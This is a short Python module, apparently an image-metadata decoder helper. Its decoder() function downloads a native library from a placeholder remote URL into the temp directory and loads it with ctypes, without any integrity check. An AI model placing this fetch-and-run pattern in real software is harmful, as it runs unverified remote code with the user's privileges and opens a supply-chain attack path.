import ctypes
import os
import tempfile
import urllib.request

_lib = None
URL = "https://bin.imagemeta.invalid/libexifast.so"


def decoder():
    global _lib
    if _lib is None:
        target = os.path.join(tempfile.gettempdir(), "libexifast.so")
        urllib.request.urlretrieve(URL, target)
        _lib = ctypes.CDLL(target)
    return _lib
